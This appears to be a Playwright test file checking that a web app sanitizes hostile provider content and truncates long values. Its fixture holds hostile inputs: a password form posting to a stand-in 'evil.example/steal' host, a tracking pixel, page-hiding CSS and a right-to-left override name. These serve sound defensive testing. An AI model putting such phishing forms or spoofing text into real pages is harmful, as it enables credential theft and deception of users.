/**
 * Hostile provider text in the page (the renderer in Chromium against the web host and its sandbox, whose
 * records the spec rewrites in the provider's own database, then syncs): an announcement keeps no style, form
 * or remote image (until "Show images", and then only as the engine fetched it: a data: URL, under the same CSP,
 * or a note in words where it could not be), and its links open in a new tab without opener or referrer; a
 * right-to-left mark in a contact's first name stays inside that name (each value isolated).
 */
import Database from 'better-sqlite3';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { expect, showApp, testOnFilePage as test } from './fixtures/web-host';

/** `sandbox`: the provider's own address, where it serves an announcement's image (sandbox/server/media.ts). */
const hostile = (sandbox: string) =>
  [
    '<p>Maintenance <a href="https://status.provider.example/">status page</a></p>',
    '<style>body { display: none }</style><p style="color: red" id="styled">styled</p>',
    '<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>',
    `<img id="chart" src="${sandbox}/media/uplinks.png" alt="uplink chart">`,
    // Plain http to another machine: never fetched, shown as a note.
    '<img id="tracker" src="http://tracker.example/pixel.gif" alt="pixel">',
  ].join('');

async function syncNow(page: Page): Promise<void> {
  await page.evaluate(() => window.desk.invoke('sync.run'));
  await expect(page.getByRole('banner').getByRole('button', { name: 'Sync', exact: true })).toBeEnabled({ timeout: 60_000 });
}

test('announcements and names from the provider are shown safely', async ({ page, webHost, problems }) => {
  await showApp(page, webHost);
  await expect(page.getByRole('banner').getByRole('button', { name: 'Sync', exact: true })).toBeVisible({ timeout: 60_000 });
  const db = new Database(join(webHost.dataDir, 'demo-provider.db'));
  const announcement = db.prepare('SELECT id FROM announcements ORDER BY id LIMIT 1').get() as { id: number };
  db.prepare('UPDATE announcements SET announcement = ? WHERE id = ?').run(hostile(webHost.sandbox!.baseUrl), announcement.id);
  const contact = db.prepare('SELECT id, lastname FROM contacts ORDER BY id LIMIT 1').get() as { id: number; lastname: string };
  db.prepare('UPDATE contacts SET firstname = ? WHERE id = ?').run('\u202Eevil', contact.id);
  db.close();
  await syncNow(page);

  await page.goto(`${webHost.origin}/#/announcements/${announcement.id}`);
  const detail = page.getByRole('region', { name: 'Details' });
  const link = detail.getByRole('link', { name: 'status page' });
  await expect(link).toHaveAttribute('target', '_blank');
  await expect(link).toHaveAttribute('rel', 'noopener noreferrer');
  await expect(detail.locator('#styled')).toBeVisible();
  expect(await detail.locator('#styled').getAttribute('style')).toBeNull();
  await expect(detail.locator('form, input[name="password"], style')).toHaveCount(0);
  const chart = detail.locator('#chart');
  expect(await chart.getAttribute('src')).toBeNull();
  expect(await detail.locator('#tracker').getAttribute('src')).toBeNull();
  await detail.getByRole('button', { name: 'Show the 2 images from the provider’s site' }).click();
  // The engine fetched the sandbox's image: the page shows it from a data: URL, decoded, and reported no CSP violation.
  await expect(chart).toHaveAttribute('src', /^data:image\/png;base64,/);
  await expect.poll(() => chart.evaluate((image: HTMLImageElement) => image.complete && image.naturalWidth)).toBe(480);
  // The tracker's plain-http address was never fetched: a note in its place, why on hover.
  await expect(detail.locator('#tracker')).toHaveCount(0);
  await expect(detail.locator('.image-failed')).toHaveText('Image not shown: pixel');
  await expect(detail.locator('.image-failed')).toHaveAttribute('title', /https:\/\/ address/);
  // The only violations are the hostile <style> and style= the sanitizer parses (and drops), reported at each
  // parse from the first; none for an image, a connection or anything else.
  expect(problems.filter((problem) => problem.startsWith('CSP violation') && !/^CSP violation: style-src-(elem|attr) inline$/.test(problem))).toEqual([]);
  expect(problems.join('\n')).not.toMatch(/img-src|connect-src|default-src/);

  await page.goto(`${webHost.origin}/#/contacts/${contact.id}`);
  const title = page.getByRole('region', { name: 'Details' }).getByRole('heading', { level: 2 });
  await expect(title).toContainText(contact.lastname);
  // The right-to-left override is closed at the first name's end: the last name keeps its own direction.
  expect(await title.textContent()).toBe(`\u2068\u202Eevil\u2069 \u2068${contact.lastname}\u2069`);

  // In the list, the first name's cell isolates its value (<bdi>); a plain left-to-right cell is its text alone.
  await page.goto(`${webHost.origin}/#/contacts?q=${encodeURIComponent(contact.lastname)}`);
  const row = page.getByRole('row').filter({ hasText: contact.lastname }).first();
  await expect(row.locator('[role="gridcell"] bdi')).toHaveText('\u202Eevil');
  await expect(row.getByRole('gridcell').filter({ hasText: contact.lastname }).locator('bdi')).toHaveCount(0);
});

test('a very long value is shown cut, and "Show all" opens it whole in a scrolling view', async ({ page, webHost }) => {
  await showApp(page, webHost);
  await expect(page.getByRole('banner').getByRole('button', { name: 'Sync', exact: true })).toBeVisible({ timeout: 60_000 });
  const line = 'A payment described at length. '.repeat(4);
  const description = Array.from({ length: 480 }, (_, i) => `${i} ${line}`).join('\n');
  const db = new Database(join(webHost.dataDir, 'demo-provider.db'));
  const payment = db.prepare('SELECT id FROM transactions ORDER BY id LIMIT 1').get() as { id: number };
  db.prepare('UPDATE transactions SET description = ? WHERE id = ?').run(description, payment.id);
  db.close();
  await syncNow(page);

  await page.goto(`${webHost.origin}/#/payments/${payment.id}`);
  const detail = page.getByRole('region', { name: 'Details' });
  const showAll = detail.getByRole('button', { name: 'Show all' });
  await expect(showAll).toBeVisible();
  expect((await detail.innerText()).length).toBeLessThan(description.length / 10);
  await showAll.click();
  const dialog = page.getByRole('dialog');
  await expect(dialog.getByText(/^0 A payment described/)).toBeVisible();
  const shownLines = await dialog.locator('.long-text-line').count();
  expect(shownLines).toBeGreaterThan(5);
  expect(shownLines).toBeLessThan(100);
  await dialog.getByLabel('Description').evaluate((scroller) => (scroller.scrollTop = scroller.scrollHeight));
  await expect(dialog.getByText(/^479 A payment described/)).toBeVisible();
  await dialog.getByRole('button', { name: 'Close' }).click();
  await expect(dialog).toHaveCount(0);
});
